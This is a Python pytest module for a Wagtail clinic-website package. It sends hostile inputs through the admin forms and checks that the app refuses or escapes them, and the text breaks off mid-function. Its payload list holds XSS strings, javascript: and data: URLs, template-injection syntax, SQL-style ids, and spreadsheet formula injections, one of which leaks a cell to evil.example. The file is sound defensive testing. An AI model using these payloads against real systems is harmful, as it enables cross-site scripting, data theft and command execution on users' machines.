"""Hostile input through the admin's own forms: a clear 4xx or a message on the field at fault,
never a server error from this app, nothing half saved; and exports that spreadsheets show
as text.

Every payload of ``PAYLOADS`` goes into every field of its kind in the admin form of every
model and page type of the app, posted as the editor's browser posts it, by a clinic's
editor (the clinic's pages, settings, stories and consent) or a superuser (the rest).
A form that refuses a payload must say so on each field that refused it, and save nothing;
the fields that did not refuse it must then accept it. Server errors raised inside Wagtail
itself are listed in ``WAGTAIL_SERVER_ERRORS`` and expected to fail; one raised in this
app fails the test.
"""

import csv
import io
import json
import traceback
from contextlib import contextmanager, suppress
from dataclasses import dataclass, field
from datetime import date, timedelta
from pathlib import Path
from urllib.parse import quote

import pytest
from django.contrib.auth import get_user_model
from django.contrib.auth.models import Group
from django.core.cache import cache
from django.core.exceptions import ValidationError
from django.core.management import call_command
from django.db import transaction
from django.test import Client
from django.urls import reverse
from django.utils import timezone
from django.utils.html import escape
from wagtail.blocks.list_block import ListBlockValidationError
from wagtail.blocks.stream_block import StreamBlockValidationError
from wagtail.blocks.struct_block import StructBlockValidationError
from wagtail.models import Page, Revision, Site
from wagtail.test.utils.form_data import inline_formset, nested_form_data, streamfield

import wagtail_spinecare
from wagtail_spinecare.checks import run_checks
from wagtail_spinecare.factories import ClinicianFactory, ConditionPageFactory
from wagtail_spinecare.models import (
    ClinicConditionPage,
    Clinician,
    ClinicSettings,
    ConditionIndexPage,
    ConditionPage,
    Guideline,
    Testimonial,
    Treatment,
)
from wagtail_spinecare.models.consent_records import ConsentEvent, ConsentRecord
from wagtail_spinecare.models.library import ConditionLibraryPage
from wagtail_spinecare.models.review import add_months
from wagtail_spinecare.models.sources import PageSource
from wagtail_spinecare.models.treatments import GuidelineRecommendation
from wagtail_spinecare.spreadsheets import FORMULA_STARTS, safe_cell

from .forms import cta_form, listblock
from .test_patient_record_permissions import form_data

MEGABYTE = 1_000_000
FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Open")'


def contentstate(text: str, link: str | None = None) -> str:
    """Rich text as the editor's Draftail posts it: one paragraph, optionally one link."""
    ranges, entities = [], {}
    if link is not None:
        ranges = [{"offset": 0, "length": len(text), "key": 0}]
        entities = {"0": {"type": "LINK", "mutability": "MUTABLE", "data": {"url": link}}}
    block = {
        "key": "h0st1",
        "text": text,
        "type": "unstyled",
        "depth": 0,
        "inlineStyleRanges": [],
        "entityRanges": ranges,
        "data": {},
    }
    return json.dumps({"blocks": [block], "entityMap": entities})


@dataclass(frozen=True)
class Payload:
    """``kind`` says where it goes: ``text`` in every free-text field (rich text as its
    words), ``url`` in every link, ``date`` in every date, ``richtext`` as the editor's raw
    rich-text data, ``stream`` as changes to a StreamField's form data, ``id`` wherever a
    URL or query string names an object."""

    kind: str
    name: str
    value: object

    def __str__(self):
        return f"{self.kind}-{self.name}"


PAYLOADS = [
    Payload("text", "script-tag", "<script>alert('hostile')</script>"),
    Payload("text", "attribute-breaker", '"><img src=x onerror=alert(1)>'),
    Payload("text", "single-quote-breaker", "'><svg/onload=alert(1)>"),
    Payload("text", "json-ld-breaker", "</script><script>alert(1)</script>"),
    Payload("text", "template-syntax", "{{ request.user.password }}{% debug %}"),
    Payload("text", "formula-equals", FORMULA),
    Payload("text", "formula-plus", "+1+cmd|' /C calc'!A0"),
    Payload("text", "formula-minus", "-2+3+cmd|' /C calc'!A0"),
    Payload("text", "formula-at", "@SUM(1+1)*cmd|' /C calc'!A0"),
    Payload("text", "formula-tab", "\t=1+1"),
    Payload("text", "formula-carriage-return", "\r=1+1"),
    Payload("text", "null-character", "before\x00after"),
    Payload("text", "right-to-left-override", "\u202egnp.exe"),
    Payload("text", "combining-marks-and-emoji", "Z\u0364\u0351a\u0308\u0347l\u036eg\u030co 🦴"),
    Payload("text", "one-megabyte", "x" * MEGABYTE),
    Payload("url", "javascript", "javascript:alert(1)"),
    Payload("url", "javascript-mixed-case", "JaVaScRiPt:alert(1)"),
    Payload("url", "javascript-with-tab", "java\tscript:alert(1)"),
    Payload("url", "data", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="),
    Payload("url", "vbscript", "vbscript:msgbox(1)"),
    Payload("url", "quote-breaker", 'https://example.com/"><script>alert(1)</script>'),
    Payload("url", "one-megabyte", "https://example.com/" + "a" * MEGABYTE),
    Payload("date", "end-of-calendar", "9999-12-31"),
    Payload("date", "start-of-calendar", "0001-01-01"),
    Payload("date", "no-such-day", "2026-02-30"),
    Payload("date", "words", "next tuesday"),
    Payload("richtext", "not-json", "{not json"),
    Payload("richtext", "json-list", "[]"),
    Payload("richtext", "blocks-not-a-list", '{"blocks": "x", "entityMap": {}}'),
    Payload("richtext", "html-instead-of-json", "<p><img src=x onerror=alert(1)></p>"),
    Payload("richtext", "javascript-link", contentstate("Open", link="javascript:alert(1)")),
    Payload("richtext", "data-link", contentstate("Open", link="data:text/html,<b>x</b>")),
    Payload(
        "richtext",
        "unknown-entity",
        json.dumps(
            {
                "blocks": [
                    {
                        "key": "a",
                        "text": "x",
                        "type": "unstyled",
                        "depth": 0,
                        "inlineStyleRanges": [],
                        "entityRanges": [{"offset": 0, "length": 1, "key": 0}],
                    }
                ],
                "entityMap": {
                    "0": {"type": "SCRIPT", "mutability": "IMMUTABLE", "data": {"src": "x"}}
                },
            }
        ),
    ),
    Payload("stream", "count-not-a-number", {"count": "abc"}),
    Payload("stream", "count-beyond-the-blocks", {"count": "1000"}),
    Payload("stream", "unknown-block-type", {"0-type": "script"}),
    Payload("stream", "order-not-a-number", {"0-order": "first"}),
    Payload("stream", "whole-stream-as-json", {"": '[{"type": "paragraph", "value": "<b>"}]'}),
    Payload("id", "word", "abc"),
    Payload("id", "negative", "-1"),
    Payload("id", "zero", "0"),
    Payload("id", "decimal", "1.5"),
    Payload("id", "sql", "1 OR 1=1"),
    Payload("id", "just-over-64-bits", str(2**63)),
    Payload("id", "twenty-digits", "99999999999999999999"),
]


def payloads(kind):
    return [pytest.param(payload, id=payload.name) for payload in PAYLOADS if payload.kind == kind]


#: Server errors that Wagtail itself raises, before any code of this app runs, for input no
#: browser sends: the StreamField form data its own JavaScript writes, and Draftail's.
WAGTAIL_SERVER_ERRORS = {
    "stream-count-not-a-number": "StreamBlock.value_from_datadict: int() of the block count",
    "stream-count-beyond-the-blocks": "StreamBlock.value_from_datadict: KeyError on a block",
    "stream-order-not-a-number": "StreamBlock.value_from_datadict: int() of a block's order",
    "richtext-not-json": "DraftailRichTextArea: json.loads of the editor's data",
    "richtext-json-list": "ContentstateConverter: the editor's data is not an object",
    "richtext-blocks-not-a-list": "ContentstateConverter: 'blocks' is not a list",
    "richtext-html-instead-of-json": "DraftailRichTextArea: json.loads of the editor's data",
    "stream-whole-stream-as-json": "StreamBlock.value_from_datadict: KeyError on 'body-count'",
}


# Answers ---------------------------------------------------------------------------------

PACKAGE = str(Path(wagtail_spinecare.__file__).parent)
WAGTAIL_PACKAGES = ("/wagtail/", "/wagtail_modeladmin/", "/modelcluster/", "/draftjs_exporter/")


def owner_of(error: BaseException) -> str:
    """'package' if the innermost frame of this app or Wagtail is this app's, else 'wagtail'."""
    for frame in reversed(traceback.extract_tb(error.__traceback__)):
        if frame.filename.startswith(PACKAGE):
            return "package"
        if any(part in frame.filename for part in WAGTAIL_PACKAGES):
            return "wagtail"
    return "package"


def send(method, url, data=None, *, payload=None, **extra):
    """The response, failing on a server error of this app's and expecting Wagtail's
    documented ones to fail."""
    try:
        response = method(url, data, **extra) if data is not None else method(url, **extra)
    except Exception as error:
        owner = owner_of(error)
        reason = WAGTAIL_SERVER_ERRORS.get(str(payload))
        if owner == "wagtail" and reason:
            pytest.xfail(f"Wagtail answers 500: {reason}")
        stack = "".join(traceback.format_exception(error))
        pytest.fail(f"server error raised in {owner} for {payload}:\n{stack[-4000:]}")
    assert response.status_code < 500, (payload, response.status_code)
    if str(payload) in WAGTAIL_SERVER_ERRORS:
        pytest.fail(f"{payload} no longer makes Wagtail fail: remove it from the list")
    return response


def walk(key, error, found) -> None:
    """Each message of ``error`` at the POST key of the input it is about."""
    if isinstance(error, StreamBlockValidationError | ListBlockValidationError):
        children = {f"{key}-{index}-value": child for index, child in error.block_errors.items()}
    elif isinstance(error, StructBlockValidationError):
        children = {f"{key}-{name}": child for name, child in error.block_errors.items()}
    else:
        found.setdefault(key, []).extend(ValidationError(error).messages)
        return
    for child_key, child in children.items():
        walk(child_key, child, found)
    own = [message for e in error.non_block_errors.as_data() for message in e.messages]
    if own:
        found.setdefault(key, []).extend(own)


def form_errors(response) -> dict[str, list]:
    """Every error of the form in ``response``, by the POST key of the input it is about."""
    form = response.context["form"]
    found = {}
    for name, errors in form.errors.as_data().items():
        for error in errors:
            walk(name, error, found)
    for prefix, formset in getattr(form, "formsets", {}).items():
        for index, subform in enumerate(formset.forms):
            for name, errors in subform.errors.as_data().items():
                for error in errors:
                    walk(f"{prefix}-{index}-{name}", error, found)
        if formset.non_form_errors():
            found[prefix] = list(formset.non_form_errors())
    return found


def about(error_key: str, input_key: str) -> bool:
    """Whether an error at ``error_key`` is about the input ``input_key``: on it, on a part
    of it, or on the block that holds it."""
    return (
        error_key == input_key
        or error_key.startswith(f"{input_key}-")
        or input_key.startswith(f"{error_key}-")
    )


def shown(response, message) -> bool:
    """Whether the page shows ``message``: in its HTML, or in the data Wagtail's StreamField
    JavaScript draws the form from."""
    html = response.content.decode()
    text = str(message)
    variants = {text, escape(text), escape(json.dumps(text)[1:-1])}
    variants.add(escape(json.dumps(text, ensure_ascii=False)[1:-1]))
    return any(variant in html for variant in variants)


def database_state():
    """What a refused form must leave as it was: how many rows of every kind there are, and
    every clinic's settings."""
    counted = (
        Page,
        Revision,
        Site,
        PageSource,
        Clinician,
        Testimonial,
        ConsentRecord,
        ConsentEvent,
        Treatment,
        GuidelineRecommendation,
        Guideline,
    )
    counts = {model.__name__: model.objects.count() for model in (*counted, Group)}
    settings = list(ClinicSettings.objects.order_by("pk").values())
    return counts, settings


# Forms -----------------------------------------------------------------------------------


class FormData:
    """POST data with named slots for hostile input, each with a valid default.

    ``slot(kind, default)`` stands in the nested data for one input; ``finish`` flattens the
    data as the admin's JavaScript would and records each slot's POST key and kind.
    """

    def __init__(self):
        self.defaults = {}
        self.kinds = {}
        self.data = {}

    def slot(self, kind: str, default: str) -> str:
        token = f"\x1eslot{len(self.defaults)}\x1e"
        self.defaults[token] = (kind, default)
        return token

    def text(self, default="Plain words"):
        return self.slot("text", default)

    def rich(self, default="Plain words"):
        return self.slot("rich", default)

    def url(self, default="https://example.com/"):
        return self.slot("url", default)

    def date(self, default):
        return self.slot("date", default)

    def finish(self, nested: dict, flat: bool = False) -> "FormData":
        data = dict(nested) if flat else nested_form_data(nested)
        for key, value in data.items():
            if isinstance(value, str) and value in self.defaults:
                kind, default = self.defaults[value]
                self.kinds[key] = kind
                data[key] = contentstate(default) if kind == "rich" else default
        self.data = data
        return self

    def keys(self, *kinds) -> list[str]:
        return [key for key, kind in self.kinds.items() if kind in kinds]

    def value_for(self, key: str, payload: Payload) -> str:
        kind = self.kinds[key]
        if kind == "rich" and payload.kind == "url":
            return contentstate("A link", link=payload.value)
        if kind == "rich" and payload.kind == "text":
            return contentstate(payload.value)
        return payload.value


def review_fields(form, world) -> dict:
    return {
        "reviewed_by": str(world.clinician.pk),
        "last_reviewed": form.date((world.today - timedelta(days=1)).isoformat()),
        "next_review_due": form.date((world.today + timedelta(days=180)).isoformat()),
    }


def promote_fields(form) -> dict:
    return {
        "slug": "hostile-input",
        "seo_title": form.text(),
        "search_description": form.text(),
        "go_live_at": "",
        "expire_at": "",
        "comments": inline_formset([]),
        "action-publish": "action-publish",
    }


def faq(form) -> dict:
    return {
        "heading": form.text("Common questions"),
        "items": listblock([{"question": form.text("Will it last?"), "answer": form.rich()}]),
    }


def cta(form) -> dict:
    return cta_form(
        label=form.text("Book an assessment"),
        link=form.url(),
        heading=form.text(),
        text=form.text(),
    )


def add_page_url(model, parent) -> str:
    meta = model._meta
    return reverse("wagtailadmin_pages:add", args=(meta.app_label, meta.model_name, parent.pk))


def condition_page(world, form):
    section = {
        "aspect": "overview",
        "heading": form.text("What it is"),
        "editor_notes": form.text(),
        "content": streamfield(
            [
                ("paragraph", form.rich()),
                ("care_card", {"level": "urgent", "heading": form.text(), "body": form.rich()}),
                ("do_dont", {"do": listblock([form.text()]), "dont": listblock(["do not"])}),
                (
                    "recovery_timeline",
                    {
                        "phases": listblock(
                            [
                                {
                                    "label": form.text(),
                                    "start_week": "0",
                                    "end_week": "2",
                                    "description": form.text(),
                                }
                            ]
                        ),
                        "note": form.text(),
                    },
                ),
                ("faq", faq(form)),
                ("booking_cta", cta(form)),
            ]
        ),
    }
    data = {
        "title": form.text("Facet joint pain"),
        "alternative_names": form.text(),
        "quick_answer": form.text(),
        "body": streamfield([("section", section), ("faq", faq(form))]),
        **review_fields(form, world),
        "disclaimer": form.text(),
        "spinecare_sources": inline_formset(
            [{"title": form.text(), "publisher": form.text(), "year": "2020", "url": form.url()}]
        ),
        **promote_fields(form),
    }
    return add_page_url(ConditionPage, world.index), data


def comparison_page(world, form):
    comparison = {
        "caption": form.text("Compared"),
        "intro": form.text(),
        "treatments": listblock([str(world.treatment.pk)]),
    }
    data = {
        "title": form.text("Treatments compared"),
        "intro": form.text(),
        "body": streamfield(
            [
                ("paragraph", form.rich()),
                ("comparison", comparison),
                ("faq", faq(form)),
                ("booking_cta", cta(form)),
            ]
        ),
        **review_fields(form, world),
        "spinecare_sources": inline_formset([]),
        **promote_fields(form),
    }
    from wagtail_spinecare.models import TreatmentComparisonPage

    return add_page_url(TreatmentComparisonPage, world.index), data


def index_page(world, form):
    data = {
        "title": form.text("Conditions"),
        "intro": form.text(),
        "body": streamfield(
            [
                ("paragraph", form.rich()),
                (
                    "testimonials",
                    {"heading": form.text(), "testimonials": listblock([]), "latest_count": "1"},
                ),
                ("faq", faq(form)),
                ("booking_cta", cta(form)),
            ]
        ),
        **promote_fields(form),
    }
    return add_page_url(ConditionIndexPage, world.root), data


def clinic_page(world, form):
    data = {
        "title": form.text("Our page on facet joint pain"),
        "shared_page": str(world.shared.pk),
        "introduction": form.text(),
        **promote_fields(form),
    }
    return add_page_url(ClinicConditionPage, world.index), data


def library_page(world, form):
    data = {
        "title": form.text("Shared library"),
        "region": "uk",
        "canonical": "own",
        "authoritative_site": "",
        **promote_fields(form),
    }
    for name in ("seo_title", "search_description"):
        del data[name]
    return add_page_url(ConditionLibraryPage, world.root), data


def settings_form(world, form):
    url = reverse(
        "wagtailsettings:edit", args=("wagtail_spinecare", "clinicsettings", world.site.pk)
    )
    data = {key: values[0] if len(values) == 1 else values for key, values in world.current(url)}
    for name in (
        "clinic_name",
        "phone",
        "street_address",
        "address_locality",
        "address_region",
        "postal_code",
        "booking_provider",
        "utm_source",
        "utm_medium",
        "emergency_number",
        "urgent_care_number",
        "typicality_statement",
        "default_disclaimer",
    ):
        data[name] = form.text(str(data.get(name) or "Plain words").strip())
    data["booking_url"] = form.url(data["booking_url"])
    data["brand_colour"] = form.text(data["brand_colour"])
    return url, data


def story_form(world, form):
    data = {
        "site": str(world.site.pk),
        "quote": form.text("The exercises fitted around my shifts and they worked."),
        "condition_page": "",
        "patient_name": form.text("Priya Shah"),
        "patient_email": form.text("priya.shah@patients.example"),
        "patient_phone": form.text("07700 900123"),
        "naming": "first_name_initial",
        "age_band": "",
        "occupation": form.text(),
        "photo": "",
        "outcome_evidence": form.text(),
        "material_connection": "other",
        "material_connection_detail": form.text(),
    }
    return reverse("wagtail_spinecare_testimonial_modeladmin_create"), data


def consent_form(world, form):
    url = reverse("wagtail_spinecare_testimonial_modeladmin_record_consent", args=(world.story.pk,))
    data = {
        "given_at": form.date((timezone.now() - timedelta(hours=1)).strftime("%Y-%m-%d %H:%M")),
        "method": "signed_form",
        "evidence": str(world.evidence.pk),
        "lawful_basis": "uk_gdpr_explicit",
        "wording": form.text("I agree that the clinic may publish my story as written."),
        "wording_version": form.text("2026-01"),
        "sites": [str(world.site.pk)],
        "channels": ["web"],
        "details": ["name"],
        "expires_on": form.date((world.today + timedelta(days=365)).isoformat()),
    }
    return url, data


def clinician_form(world, form):
    data = {
        "name": form.text("Priya Shah"),
        "profession": form.text("Physiotherapist"),
        "post_nominals": form.text(),
        "credentials": form.text(),
        "registration_body": form.text(),
        "registration_number": form.text(),
        "photo": "",
        "profile_url": form.url(),
    }
    return reverse("wagtail_spinecare_clinician_modeladmin_create"), data


def treatment_form(world, form):
    recommendation = {
        "guideline": str(world.guideline.pk),
        "guideline_version": form.text("2020-12-11"),
        "recommendation_id": form.text("1.2.2"),
        "strength": "consider",
        "caveats": form.text(),
        "source_url": form.url(),
    }
    data = {
        "name": form.text("Hostile treatment"),
        "category": "exercise",
        "written_in": "uk",
        "summary": form.text(),
        "involves": form.text(),
        "time_to_benefit": form.text(),
        "typical_course": form.text(),
        "recommendations": inline_formset([recommendation], min=1),
    }
    return reverse("wagtail_spinecare_treatment_modeladmin_create"), data


def guideline_form(world, form):
    data = {
        "code": form.text("HOSTILE 1"),
        "title": form.text("A guideline"),
        "authority": form.text("NICE"),
        "current_version": form.text("2020-12-11"),
        "url": form.url(),
        "strength_scheme": "nice",
        "note": form.text("Checked by our clinical lead."),
    }
    return reverse("wagtail_spinecare_guideline_modeladmin_create"), data


def add_clinic_form(world, form):
    data = {
        "clinic_name": form.text("Hostile Input Clinic"),
        "hostname": form.text("hostile.example"),
        "port": "80",
        "region": "uk",
    }
    return reverse("wagtail_spinecare_admin:add_clinic"), data


@dataclass(frozen=True)
class Target:
    """One admin form: who posts it, how its data is built, and the kinds of its inputs."""

    name: str
    user: str
    build: object
    kinds: frozenset
    #: Whether what it saves is shown to patients, so can be checked to be shown escaped.
    public: bool = False
    #: Plain (not nested) data, as a Django form posts it.
    flat: bool = False

    def form(self, world) -> tuple[str, FormData]:
        form = FormData()
        url, data = self.build(world, form)
        return url, form.finish(data, flat=self.flat)


PAGE_INPUTS = frozenset({"text", "rich", "url", "date", "stream"})
TARGETS = [
    Target("condition-page", "editor", condition_page, PAGE_INPUTS, public=True),
    Target("comparison-page", "editor", comparison_page, PAGE_INPUTS, public=True),
    Target("clinic-condition-page", "editor", clinic_page, frozenset({"text"})),
    Target("condition-index-page", "superuser", index_page, PAGE_INPUTS - {"date"}),
    Target("condition-library", "superuser", library_page, frozenset({"text"})),
    Target("clinic-settings", "editor", settings_form, frozenset({"text", "url"}), True, True),
    Target("patient-story", "editor", story_form, frozenset({"text"}), flat=True),
    Target("consent", "editor", consent_form, frozenset({"text", "date"}), flat=True),
    Target("clinician", "superuser", clinician_form, frozenset({"text", "url"}), flat=True),
    Target("treatment", "superuser", treatment_form, frozenset({"text", "url"})),
    Target("guideline", "superuser", guideline_form, frozenset({"text", "url"}), flat=True),
    Target("add-clinic", "superuser", add_clinic_form, frozenset({"text"}), flat=True),
]


def targets(kind):
    return [pytest.param(target, id=target.name) for target in TARGETS if kind in target.kinds]


# The world -------------------------------------------------------------------------------


@dataclass
class World:
    site: Site
    index: ConditionIndexPage
    root: Page
    shared: ConditionPage
    clinician: Clinician
    treatment: Treatment
    guideline: Guideline
    story: Testimonial
    evidence: object
    clients: dict = field(default_factory=dict)

    @property
    def today(self):
        return timezone.localdate()

    def client(self, user: str) -> Client:
        return self.clients[user]

    def current(self, url):
        """The data of the form at ``url`` as the admin draws it, for a superuser."""
        response = self.clients["superuser"].get(url)
        assert response.status_code == 200
        return form_data(response).items()


@pytest.fixture(scope="module")
def superuser_data(demo_data, django_db_blocker):
    """A superuser beside the demo's editors, made once and rolled back with the demo."""
    with django_db_blocker.unblock():
        return get_user_model().objects.create_superuser("root", "root@example.com", "pw")


@pytest.fixture
def world(demo, superuser_data):
    site = Site.objects.get(hostname="harbourside.localhost")
    story = Testimonial.objects.filter(site=site).first()
    superuser = get_user_model().objects.get(pk=superuser_data.pk)
    editor = get_user_model().objects.get(username="harbourside-editor")
    clients = {}
    for name, user in (("superuser", superuser), ("editor", editor)):
        clients[name] = Client()
        clients[name].force_login(user)
    return World(
        site=site,
        index=site.root_page.specific,
        root=Page.get_first_root_node(),
        shared=ConditionPage.objects.child_of(ConditionLibraryPage.objects.get()).first(),
        clinician=Clinician.objects.first(),
        treatment=Treatment.objects.first(),
        guideline=Guideline.objects.get(code="NICE NG59"),  # "consider" is in its words
        story=story,
        evidence=story.consent_records.first().evidence,
        clients=clients,
    )


# Posting ---------------------------------------------------------------------------------


@dataclass
class Outcome:
    accepted: set
    refused: set


#: Django refuses (400) a request body over DATA_UPLOAD_MAX_MEMORY_SIZE, 2.5 MB, before any
#: form sees it; inputs are posted in batches under it, so each field's own limit is tried.
BATCH_BYTES = 2_000_000


def batches(values: dict) -> list[dict]:
    """``values`` in groups small enough to post together."""
    groups, group, size = [], {}, 0
    for key, value in values.items():
        length = len(str(value).encode())
        if group and size + length > BATCH_BYTES:
            groups.append(group)
            group, size = {}, 0
        group[key] = value
        size += length
    return [*groups, group] if group else groups


def accepted(response) -> bool:
    """Saved: the admin's redirect, or a form drawn again without any error ("Add a
    clinic" answers on the same page)."""
    if response.status_code == 302:
        return True
    assert response.status_code == 200, response.status_code
    return not form_errors(response)


@contextmanager
def undone():
    """What a request saves is undone afterwards, so each post meets the same database."""
    with transaction.atomic():
        yield
        transaction.set_rollback(True)
    cache.clear()


def post_once(world, target, url, form, batch, payload, on_accept=None) -> set:
    """Post ``batch`` over the form's valid data; the inputs it refused, each with its
    message shown, and nothing saved. ``on_accept`` sees what an accepted post saved."""
    with undone():
        before = database_state()
        response = send(
            world.client(target.user).post, url, {**form.data, **batch}, payload=payload
        )
        if accepted(response):
            if on_accept is not None:
                on_accept()
            return set()
        errors = form_errors(response)
        assert database_state() == before, f"{payload} was refused, yet something was saved"
    unexplained = {
        key: messages
        for key, messages in errors.items()
        if not any(about(key, input_key) for input_key in batch)
    }
    assert not unexplained, f"refused {payload} with messages on no input given it"
    for key, messages in errors.items():
        for message in messages:
            assert shown(response, message), f"{key}: '{message}' is not shown"
    return {key for key in batch if any(about(error, key) for error in errors)}


def submit(world, target, url, form, values, payload, on_accept=None) -> Outcome:
    """Post ``values`` over the form's valid data until what is left is accepted: every
    refusal must name the inputs at fault and save nothing. Some checks run only once the
    fields are valid (consent is checked as a whole), so a second round may refuse more."""
    refused = set()
    while True:
        rest = {key: value for key, value in values.items() if key not in refused}
        found = set()
        for batch in batches(rest):
            found |= post_once(world, target, url, form, batch, payload, on_accept)
        if not found:
            return Outcome(accepted=set(rest), refused=refused)
        refused |= found


def public_html(world) -> str:
    """The clinic's newest live page, as patients get it."""
    page = Page.objects.live().descendant_of(world.index, inclusive=True).order_by("-pk").first()
    response = Client().get(page.relative_url(world.site), HTTP_HOST=world.site.hostname)
    assert response.status_code == 200
    return response.content.decode()


def latest_content(world) -> str:
    """What the newest page revision holds, lower-cased, for looking for what must not be
    stored."""
    revision = Revision.page_revisions.order_by("-pk").first()
    return json.dumps(revision.content).lower() if revision else ""


DANGEROUS_SCHEMES = ("javascript:", "vbscript:", "data:")


# Text, links and dates -------------------------------------------------------------------


def shown_escaped(world, target, payload):
    """A check, for what an accepted post saved, that patients' pages show it as text."""

    def check():
        if target.public and "<" in payload.value:
            assert payload.value not in public_html(world)

    return check


def stored_safely(world):
    """A check, for what an accepted post saved, that no page keeps a script or a link
    that runs one."""

    def check():
        content = latest_content(world)
        assert not any(scheme in content for scheme in DANGEROUS_SCHEMES)
        assert "<script" not in content and "onerror" not in content

    return check


@pytest.mark.parametrize("payload", payloads("text"))
@pytest.mark.parametrize("target", targets("text"))
def test_text_in_every_field(world, target, payload):
    url, form = target.form(world)
    values = {key: form.value_for(key, payload) for key in form.keys("text", "rich")}
    check = shown_escaped(world, target, payload)
    outcome = submit(world, target, url, form, values, payload, on_accept=check)
    if len(payload.value) > 20_000:
        assert not outcome.accepted, "a megabyte of text was accepted"


@pytest.mark.parametrize("payload", payloads("url"))
@pytest.mark.parametrize("target", targets("url"))
def test_links(world, target, payload):
    url, form = target.form(world)
    links = form.keys("url")
    values = {key: form.value_for(key, payload) for key in (*links, *form.keys("rich"))}
    scheme = payload.value.replace("\t", "").lower()
    dangerous = scheme.startswith(DANGEROUS_SCHEMES)

    def check():
        shown_escaped(world, target, payload)()
        if dangerous and "rich" in target.kinds:
            # Rich text keeps the words of such a link, never the link.
            stored_safely(world)()

    outcome = submit(world, target, url, form, values, payload, on_accept=check)
    if dangerous or len(payload.value) > 2000:
        assert set(links) <= outcome.refused


@pytest.mark.parametrize("payload", payloads("date"))
@pytest.mark.parametrize("target", targets("date"))
def test_dates(world, target, payload):
    url, form = target.form(world)
    dates = form.keys("date")
    outcome = submit(world, target, url, form, dict.fromkeys(dates, payload.value), payload)
    # A consent given long ago is a date in the past like any other.
    assert outcome.accepted <= {"given_at"}
    if payload.name != "start-of-calendar":
        assert outcome.refused == set(dates)


@pytest.mark.parametrize(
    "name, value, message",
    [
        ("last_reviewed", "9999-12-31", "within 10 years of today"),
        ("next_review_due", "2000-01-01", "within 10 years of today"),
        ("search_description", "d" * 1001, "at most 1000 characters"),
        ("disclaimer", "d" * 2001, "at most 2000 characters"),
    ],
)
def test_page_limits_say_what_they_are(world, name, value, message):
    url, form = TARGETS[0].form(world)
    response = world.client("editor").post(url, {**form.data, name: value})
    assert response.status_code == 200
    assert message in " ".join(form_errors(response)[name])


def test_review_dates_near_the_end_of_the_calendar(world):
    """A review in the year 9999 is refused on its fields; a page already holding such
    dates is still checked, never a server error."""
    url, form = TARGETS[0].form(world)
    dates = {"last_reviewed": "9999-01-01", "next_review_due": "9999-06-01"}
    response = send(world.client("editor").post, url, {**form.data, **dates})
    assert response.status_code == 200
    assert set(dates) <= set(form_errors(response))
    page = ConditionPageFactory(parent=world.index, slug="far-future")
    page.last_reviewed, page.next_review_due = date(9999, 12, 30), date(9999, 12, 31)
    assert "review-date-future" in [finding.code for finding in run_checks(page)]
    assert add_months(date(9999, 12, 31), 12) == date.max
    assert add_months(date(1, 1, 31), -1) == date.min


def test_consent_lasts_no_longer_than_the_setting(world, settings):
    settings.WAGTAIL_SPINECARE_CONSENT_MAX_DAYS = 30
    target = next(target for target in TARGETS if target.name == "consent")
    url, form = target.form(world)
    client = world.client("editor")
    too_long = (world.today + timedelta(days=31)).isoformat()
    response = client.post(url, {**form.data, "expires_on": too_long})
    assert response.status_code == 200
    [message] = form_errors(response)["expires_on"]
    assert "at most 30 days" in message
    last_day = (world.today + timedelta(days=30)).isoformat()
    assert client.post(url, {**form.data, "expires_on": last_day}).status_code == 302


# What only a hand-made request sends -----------------------------------------------------


@pytest.mark.parametrize("payload", payloads("richtext"))
@pytest.mark.parametrize("target", targets("rich"))
def test_malformed_rich_text(world, target, payload):
    url, form = target.form(world)
    values = dict.fromkeys(form.keys("rich"), payload.value)
    submit(world, target, url, form, values, payload, on_accept=stored_safely(world))


@pytest.mark.parametrize("payload", payloads("stream"))
@pytest.mark.parametrize("target", targets("stream"))
def test_malformed_stream(world, target, payload):
    url, form = target.form(world)
    data = dict(form.data)
    if "" in payload.value:
        data = {key: value for key, value in data.items() if not key.startswith("body-")}
        data["body"] = payload.value[""]
    else:
        data.update({f"body-{key}": value for key, value in payload.value.items()})
    with undone():
        before = database_state()
        response = send(world.client(target.user).post, url, data, payload=payload)
        unchanged = database_state() == before
    if response.status_code == 200:
        errors = form_errors(response)
        assert errors and unchanged
        assert all(shown(response, message) for messages in errors.values() for message in messages)
    else:
        assert response.status_code == 302


# Ids -------------------------------------------------------------------------------------

ANY_ID = 123456789


def modeladmin_urls():
    actions = {
        "testimonial": ("inspect", "edit", "delete", "record_consent", "withdraw", "erase"),
        "clinician": ("inspect", "edit", "delete"),
        "treatment": ("inspect", "edit", "delete"),
        "guideline": ("inspect", "edit", "delete"),
    }
    return [
        (model, f"wagtail_spinecare_{model}_modeladmin_{action}")
        for model, names in actions.items()
        for action in names
    ]


ID_VIEWS = [
    *[
        pytest.param(name, "get", id=name.removeprefix("wagtail_spinecare_"))
        for _m, name in modeladmin_urls()
    ],
    pytest.param(
        "wagtail_spinecare_testimonial_modeladmin_export", "post", id="testimonial-export"
    ),
    pytest.param("spinecare_testimonial_chooser:chosen", "get", id="story-chooser-chosen"),
    pytest.param("spinecare_treatment_chooser:chosen", "get", id="treatment-chooser-chosen"),
    pytest.param("wagtail_spinecare:brand_stylesheet", "get", id="brand-stylesheet"),
]


def with_id(url_name: str, value: str) -> str:
    url = reverse(url_name, args=(ANY_ID,))
    return url.replace(f"/{ANY_ID}/", f"/{quote(value, safe='')}/")


@pytest.mark.parametrize("user", ["superuser", "editor"])
@pytest.mark.parametrize("payload", payloads("id"))
@pytest.mark.parametrize("url_name, method", ID_VIEWS)
def test_object_urls_with_impossible_ids(world, url_name, method, payload, user):
    client = world.client(user)
    response = send(getattr(client, method), with_id(url_name, payload.value), payload=payload)
    if user == "superuser" or "testimonial" in url_name:
        assert response.status_code == 404
    else:
        assert response.status_code in (302, 403, 404)


@pytest.mark.parametrize("payload", payloads("id"))
@pytest.mark.parametrize(
    "viewset", ["spinecare_testimonial_chooser", "spinecare_treatment_chooser"]
)
def test_chosen_multiple_with_impossible_ids(world, viewset, payload):
    url = reverse(f"{viewset}:chosen_multiple")
    response = send(world.client("editor").get, url, {"id": ["1", payload.value]}, payload=payload)
    possible = payload.value.isdigit() and int(payload.value) < 2**63
    assert response.status_code == (200 if possible else 404)


@pytest.mark.parametrize("payload", payloads("id"))
@pytest.mark.parametrize("parameter", ["site", "reviewer", "live"])
def test_review_report_filters_with_impossible_ids(world, parameter, payload):
    for export in ("", "csv"):
        query = {parameter: payload.value, **({"export": export} if export else {})}
        response = send(
            world.client("editor").get,
